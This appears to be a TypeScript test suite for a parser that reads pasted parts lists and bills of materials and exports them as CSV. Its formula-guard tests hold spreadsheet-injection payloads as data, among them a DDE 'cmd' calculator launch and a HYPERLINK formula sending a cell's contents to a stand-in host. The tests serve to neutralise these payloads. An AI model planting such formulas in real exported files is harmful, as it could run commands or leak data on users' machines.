import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readLabels } from '../../../../src/parts-list/model/labels';
import { type ListRows, listFragment } from '../../../../src/parts-list/model/list-fragment';
import { pastedCsv, readLinked, readPasted } from '../../../../src/parts-list/model/pasted-list';
import { growth } from '../../growth';
import { PROPERTY_RUNS } from '../../property-runs';
import { FORMS } from './list-forms';

/** The cells of a CSV file as a spreadsheet reads them, with this separator. */
function cellsOf(csv: string, separator = ','): string[][] {
  expect(csv.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end = ''] of csv
    .slice(1)
    .matchAll(new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(${separator}|\\r\\n|$)`, 'g'))) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
const read = (text: string) => readPasted(readLabels(text, () => undefined));
const sent = (text: string) => cellsOf(pastedCsv(read(text)));
/** The cells that the store finds in the file: in lines of a text those between the text's own separators. */
const found = (list: ListRows, separator: string) =>
  cellsOf(pastedCsv(list), list.kind === 'lines' ? separator : ',');
const listed = (texts: string) => texts.split('¦');

describe('B16 a pasted table', () => {
  it.each(FORMS)('is handed on as it is: %s', (name, separator, quotes, ...rows) => {
    const cells = rows.map((row) =>
      row.split('|').map((cell) => cell.replaceAll('\\n', '\n').replaceAll('\\t', '\t')),
    );
    const isQuoted = (cell: string) => quotes === 'all' || /["\n]/.test(cell) || cell.includes(separator);
    const written = (cell: string) => (isQuoted(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
    for (const end of ['\n', '\r\n']) {
      const text = cells.map((row) => row.map(written).join(separator)).join(end) + end;
      const list = read(text);
      expect(list).toMatchObject({ kind: AS_LINES.has(name) ? 'lines' : 'cells', isList: true });
      if (list.kind === 'cells') expect(list.rows).toEqual(cells);
      expect(found(list, separator)).toEqual(cells);
    }
  });

  /** Their rows are uneven, or even by comma and by semicolon. */
  const AS_LINES = new Set([
    'KiCad with five lines of origin',
    'prices with decimal commas',
    'descriptions with commas',
    'two rows of different lengths',
    'headings wider than the rows',
  ]);

  const text = fc.constantFrom(
    ...'EX358DR¦0,25¦1,000¦¥2.50¦C1, C2¦R1;R2¦Cap; 16V, X5R¦LQFP-48¦5" LCD¦"A" grade¦U1\nU2¦'.split('¦'),
  );
  const table = fc.integer({ min: 0, max: 5 }).chain((between) => {
    const texts = fc.array(text, { minLength: between, maxLength: between });
    const row = fc.tuple(fc.constantFrom('EX358DR', '9551', '100nF'), texts, fc.constantFrom('10', '500'));
    return fc.record({
      titles: fc.array(fc.constantFrom('Bill of materials', 'Source: a.sch, rev 2', '# by; a tool')),
      headings: fc.constantFrom([], [['#', ...Array<string>(between).fill('单价(￥)'), 'Qty']]),
      rows: fc.array(row, { minLength: 2, maxLength: 8 }),
      footer: fc.constantFrom([], [['合计', ...Array<string>(between + 1).fill('')]]),
    });
  });
  it.each(['\t', ';', ','])('is handed on as it is: any with %j between its cells', (separator) => {
    fc.assert(
      fc.property(table, fc.boolean(), ({ titles, headings, rows, footer }, isAllQuoted) => {
        const written = (cell: string) =>
          isAllQuoted || /["\n]/.test(cell) || cell.includes(separator)
            ? `"${cell.replaceAll('"', '""')}"`
            : cell;
        const cells = [
          ...titles.map((title) => [title]),
          ...headings,
          ...rows.map((row) => row.flat()),
          ...footer,
        ];
        const list = read(cells.map((row) => row.map(written).join(separator)).join('\r\n'));
        expect(list.isList).toBe(true);
        if (list.kind !== 'parts') expect(found(list, separator)).toEqual(cells);
      }),
      { numRuns: PROPERTY_RUNS },
    );
  });

  it.each([
    [
      '"Qty", "Value", "Parts"\n"3", "100nF", "C1, C2"\n"1", "EX358" , "U1"',
      [
        ['Qty', 'Value', 'Parts'],
        ['3', '100nF', 'C1, C2'],
        ['1', 'EX358', 'U1'],
      ],
    ],
    ['ＥＸ３５８　１０\nＥＸ１０４　２０', [['ＥＸ３５８　１０'], ['ＥＸ１０４　２０']]],
    ['EX358DR   2   1.00\nEX104K    10  0.20', [['EX358DR   2   1.00'], ['EX104K    10  0.20']]],
    [
      '您好，\n\n请报价：\nEX358DR 10 pcs\nEX104K 20 pcs',
      [['您好，'], ['请报价：'], ['EX358DR 10 pcs'], ['EX104K 20 pcs']],
    ],
    ['| EX358DR | 10 |\n| EX104K | 20 |', [['| EX358DR | 10 |'], ['| EX104K | 20 |']]],
    ['EX358DR\nEX104K', [['EX358DR'], ['EX104K']]],
    [
      'C25744_GD_100~C17513_JS_50',
      [
        ['C25744', 'GD', '100'],
        ['C17513', 'JS', '50'],
      ],
    ],
    [
      'EX35\u200b8DR\t1\u202d0\n\ufeffEX\u00ad104K\t',
      [
        ['EX358DR', '10'],
        ['EX104K', ''],
      ],
    ],
  ])('is read by its lines, or by quotes with blanks around them: %j', (text, rows) => {
    expect(read(text)).toMatchObject({ rows, kind: 'cells', isList: true });
  });
});

it('S36 a pasted list is the one that its link opens', () => {
  const cell = fc.oneof(
    fc.constantFrom('EX358DR', "'=1", '=1+1', '10', '', '1,000', 'a*b;c', '\u202e1'),
    fc.string({ maxLength: 6 }),
  );
  const row = fc.array(cell, { minLength: 1, maxLength: 3 });
  fc.assert(
    fc.property(
      fc.array(row, { minLength: 1, maxLength: 5 }),
      fc.constantFrom('\t', ',', ' x '),
      (rows, between) => {
        const { isList: _, ...list } = read(rows.map((cells) => cells.join(between)).join('\n'));
        expect(readLinked(listFragment(list))).toEqual({ ...list, first: expect.any(String) });
      },
    ),
    { numRuns: PROPERTY_RUNS },
  );
});

describe('B16 a list of parts and quantities', () => {
  it.each([
    ...listed(`C25744 x 500¦2 x C25744¦C25744*100¦C25744\t100¦C25744 × 500¦C25744×5¦3*C25744¦2x C25744`),
    ...listed(`  C25744 X 5 ¦C25744 \t 100¦c25744✖7¦"C25744*100"`),
  ])('is a code of the store with a quantity in every line: %j', (line) => {
    const { rows, kind } = read(`${line}\n\nC17513 x 7\r\n`);
    expect([rows[0]?.[0]?.toUpperCase(), rows[1], kind]).toEqual(['C25744', ['C17513', '7'], 'parts']);
    expect(rows[0]?.[1]).toBe(/\d+(?="?\s*$)|^\d+/.exec(line.replace(/C25744/i, ''))?.[0]);
    expect(sent(`${line}\nC17513 x 7`)[0]).toEqual(['型号', '数量']);
  });

  it.each([
    ['BSS138\t100', 'BSS138', '100'],
    ['M2.5*10 x 100', 'M2.5*10', '100'],
    ['M2.5*10\t100', 'M2.5*10', '100'],
    ['GB70-M3*20 * 5', 'GB70-M3*20', '5'],
    ['TXB0108x10 × 7', 'TXB0108x10', '7'],
  ])('is any part with a tab, or a size with a later quantity: %j', (line, part, quantity) => {
    expect(read(`C25744*3\n${line}`)).toMatchObject({
      rows: [
        ['C25744', '3'],
        [part, quantity],
      ],
      kind: 'parts',
    });
  });

  const SIZES = listed(
    `M2.5*10¦M2.5 x 16¦GB70-M3*20¦GB70-M3*16¦XH2.54*4¦CD54*100¦M3×8¦PH2.0 X 5¦2 x M2.5¦M2.5 x 16 x 100¦BSS138 x 500`,
  );
  it.each(SIZES)('D1 never divides a size: %j', (size) => {
    for (const lines of [
      [size, size],
      [size, 'C25744*100'],
      ['C25744 x 5', size, 'EX358DR'],
    ]) {
      const { rows, kind } = read(lines.join('\n'));
      expect([rows, kind]).toEqual([lines.map((line) => [line]), 'cells']);
      expect(sent(lines.join('\n'))).toEqual(lines.map((line) => [line]));
    }
    const table = `1\t${size}\t10\n2\t${size}\t20`;
    expect(read(table).rows[0]).toEqual(['1', size, '10']);
  });

  it('D1 sends no quantity that no later number of its line names, for any sizes', () => {
    const name = fc.constantFrom('M', 'GB70-M', 'XH', 'CD', 'PH', 'FFC', 'LED', 'C');
    const number = fc.constantFrom('2.5', '3', '54', '0.5', '2.54', '1000');
    const sign = fc.constantFrom('*', 'x', '×', ' x ', ' * ', ' X ', ' × ');
    const size = fc.tuple(name, number, sign, number).map((all) => all.join(''));
    fc.assert(
      fc.property(fc.array(size, { minLength: 2, maxLength: 6 }), (sizes) => {
        const { rows, kind } = read(sizes.join('\n'));
        const isCode = sizes.every((one) => /^C\d{3,}(?:\s?[*×]\s?| x )[1-9]\d*$/i.test(one));
        if (!isCode) expect([kind, rows]).toEqual(['cells', sizes.map((one) => [one])]);
      }),
      { numRuns: PROPERTY_RUNS },
    );
  });

  it.each(
    listed(`EX358P x 1,000¦EX358P x1,000¦EX358P 1,000¦EX358P × 12,500,000¦C25744 x 1,000¦C25744*1,000`),
  )('D2 never divides a number at its comma: %j', (line) => {
    for (const other of [line, 'EX104K x 2,000', 'C1 100nF, 0603', 'EX104K']) {
      const text = `${line}\n${other}`;
      expect(read(text).rows[0]).toEqual([line]);
      expect(sent(text)[0]).toEqual([line]);
    }
  });

  it.each([
    ...listed(
      `BSS138 500¦BSS138x500¦C25744x500¦C25744 x 0500¦C25744 x 1,000¦C25744 x 1.000¦C25744 x -5¦C25744 x 0¦谢谢`,
    ),
    ...listed(`BSS138\t10\t5¦型号\t数量¦C25744 x 5 pcs¦1. C25744 x 5¦9.5E+12\t10¦7812 x 5¦7812\t5¦电阻 x 5`),
    ...listed(`=C25744 x 5¦C25744*5*5¦500\tBSS138¦<C25744> x 5¦C25744, x 5¦C25744 x 1000000000¦C25744*5\t7`),
  ])('is a text as it is as soon as one line is %j', (line) => {
    const text = `C25744 x 500\nC17513*2\n${line}`;
    expect(read(text).kind).not.toBe('parts');
    expect(sent(text)[0]?.[0]).toBe('C25744 x 500');
  });

  it.each([
    ['C25744*100;C17513*50', '100', '50'],
    [' C25744*100 ; C17513 x 50; ', '100', '50'],
    ['C25744*100；C17513*50', '100', '50'],
    ['C25744×100，2 x C17513', '100', '2'],
    ['C25744*1,C17513*2', '1', '2'],
  ])('may be one line of codes with quantities: %j', (text, ...quantities) => {
    expect(read(text)).toMatchObject({
      rows: [
        ['C25744', quantities[0]],
        ['C17513', quantities[1]],
      ],
      kind: 'parts',
      isList: true,
      first: 'C25744',
    });
  });

  it.each(listed(`C25744*100¦C25744*100;¦C25744*100;C17513¦C25744*100;EX358*5¦M2.5*10;M3*20`))(
    'is a search on one line otherwise: %j',
    (text) => expect(read(text).isList).toBe(false),
  );
});

describe('B16 a text whose cells no one separator gives', () => {
  it.each([
    'Source: a.sch, rev 2\nEX358DR,C1,10\nEX104K,R2,10',
    'EX358DR, 10\nEX104K, 20, urgent',
    'EX358;0,25\nEX104;1,25',
    'Ref,Value\n"C1,\nC2",100nF,2\nU1,"EX358 ""A""",1',
  ])('is the file itself: %j', (text) => {
    const list = read(text);
    expect(list).toMatchObject({ kind: 'lines', isList: true });
    expect(pastedCsv(list)).toBe(`\ufeff${list.rows.flat().join('\r\n')}\r\n`);
    expect(list.rows.flat().join('\n')).toBe(text);
  });

  it('leaves without a formula behind any of its separators', () => {
    const { rows } = read('EX358,1;2\n"=1+1",@SUM(A1)\nEX104,x|=A1,2');
    expect(rows.flat()).toEqual(['EX358,1;2', `"'=1+1",'@SUM(A1)`, `EX104,x|'=A1,2`]);
  });
});

describe('B16 any other text', () => {
  it.each([
    ...listed(
      `EX358DR¦EX358DR x 10¦EX358DR\t10¦贴片电容, 0603¦10K 0603 1%, 风华¦R1,R2,R3¦C25744_GD_100¦¦\n\t\n`,
    ),
    ...listed(`您好，\n请问有货吗？\n谢谢¦Hello, we need parts\nThanks, John¦Dear all,\nplease quote,\nBye`),
    ...listed(`In 2019, I bought EX358\nIn 2020, no more¦We tried the EX358.\nIt beats the EX104K.\nFine.`),
    ...listed(
      `https://a.example/x1\nhttps://b.example/x2¦a1@example.com\nb2@example.com¦width: 10px;\nheight: 5px;`,
    ),
    ...listed(`<comp ref="C1">\n<value>EX104K</value>\n</comp>¦{"ref":"C1","qty":10,\n"mpn":"EX358"}`),
    ...listed(`[\n{"mpn":"EX358","qty":1},\n{"mpn":"EX104","qty":2}]¦[1,2,\n3,4]¦let a = 5;\nlet b = 6;`),
    ...listed(`电阻,一\n电容,二¦型号,数量\nEX358DR,10`),
  ])('is a search: %j', (text) => {
    expect(read(text).isList).toBe(false);
  });

  it('has at most 5000 rows, 200 000 characters and a hundred columns as a list', () => {
    const isList = (text: string) => read(text).isList;
    expect([5000, 5001].map((count) => isList('x1y2\n'.repeat(count)))).toEqual([true, false]);
    expect([100, 101].map((count) => isList('x1y2\t1.5\n'.repeat(2) + '\t'.repeat(count - 1)))).toEqual([
      true,
      false,
    ]);
    const long = 'x1y2\n'.repeat(5000).padEnd(200_000);
    expect([isList(long), isList(`${long} `)]).toEqual([true, false]);
  });
});

describe('B16 NM7 a cell that a spreadsheet would evaluate', () => {
  const FORMULAS = [
    "=cmd|' /C calc'!A0",
    '＝HYPERLINK("http://e.example/?x="&B2,"EX32")',
    '@SUM(A1:A9)',
    '＋1+A1',
    'EX358A; =A1',
    'EX358A|"-A1',
    '-2+3+cmd|1',
    '\u200b=1+1',
    ' (=1+1',
  ];
  it.each(
    listed(
      `-40 to 85C¦Op amp, -40 to 85C¦-40~85℃¦-55°C ~ +125°C¦-40℃~+85℃¦-40 to +85C¦+5V¦-12V/-5V¦-0.5V to 7V¦-20%¦-¦- `,
    ),
  )('D2 leaves as pasted what no spreadsheet computes: %j', (cell) => {
    const [, [, sentCell = ''] = []] = read(`EX358\t5\nEX104K\t${cell}`).rows;
    expect(sentCell).toBe(cell);
    expect(read(`EX358;5\n"${cell}";10\nEX104K;7`).rows[1]?.[0]).toBe(cell);
  });

  it.each(
    listed(`-1E5+2¦-1-1¦-40-A1¦+A1¦+5¦-2+3+cmd|1¦-40 to cmd|' /C calc'!A0¦-1(2)¦-5V+A1¦-5V*2¦-1 A1:B2`),
  )('D2 guards what may be computed: %j', (cell) =>
    expect(read(`EX358\t5\nEX104K\t${cell}`).rows[1]?.[1]).toBe(`'${cell}`),
  );

  it.each(FORMULAS)('is sent as a text: %j', (formula) => {
    const [, [cell = ''] = []] = read(`EX358\t5\n${formula}\t10\nEX104K\t7`).rows;
    expect(cell).toContain("'");
    expect(cell.replace(/^([^=+\-@＝＋]*)'/, '$1').replace(/'(?=[=-]A1)/, '')).toBe(
      formula.replace('\u200b', ''),
    );
  });

  /** A dash, a negative number; or a number with a unit or a word behind it, without what a formula needs. */
  const isHarmless = (cell: string) =>
    /^[^\p{L}\p{N}=+@＝＋－＠]*-+[\d.]*%?\s*(?:["',;\t]|$)/u.test(cell) ||
    (/^[^\p{L}\p{N}=@＝＠]*\d+(?:\.\d+)?\s?[^\d\s%.+\-/]/u.test(cell) &&
      !/^[^\p{L}\p{N}]*[\d.]+\s?e[-+]?\d|[-+/](?![-+]?\d)\S*[=(!|*^&:]/iu.test(
        cell.replace(/[,;\t"].*$/su, '').replace(/^[^\p{L}\p{N}]*/u, ''),
      ));

  const piece = fc.oneof(
    fc.constantFrom(
      ...'-40 to 85C¦+5V¦~¦℃¦ to ¦/'.split('¦'),
      ...'\t¦\n¦,¦;¦"¦\'¦×¦ ¦\u00a0¦\ufeff¦\u200b¦=¦＝¦+¦-¦@¦＠¦- ¦1. '.split('¦'),
      ..."10¦1,000¦-20%¦0.5¦1e3¦EX358¦型号¦、¦x¦|¦=cmd|' /C calc'!A0¦电阻".split('¦'),
    ),
    fc.string({ unit: 'binary', maxLength: 5 }),
  );
  it('is in no file of a pasted text, whose cells are those of the panel', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const list = read(pieces.join(''));
        const csv = pastedCsv({ ...list, kind: list.kind === 'parts' ? 'cells' : list.kind });
        if (list.kind !== 'lines') expect(cellsOf(csv)).toEqual(list.rows.length === 0 ? [] : list.rows);
        for (const separator of [',', ';', '\t'])
          for (const cell of cellsOf(csv, separator).flat())
            if (!isHarmless(cell)) expect(cell).not.toMatch(/^[\s\p{C}"]*[=+\-@＝＋－＠]/u);
      }),
      { numRuns: Math.max(PROPERTY_RUNS, 600) },
    );
  });
});

it.each(['x1y2 ', 'x1y2,', '"', '\t"', '"a""', '"\n', ' x ', '* 1 ', 'EX358 1;', '1\n', '-1\n', '_1~C1_A'])(
  'B16 takes linear time for many %j',
  (part) => {
    expect(growth((length) => read(part.repeat(length / part.length)), 1000)).toBeLessThan(40);
  },
);
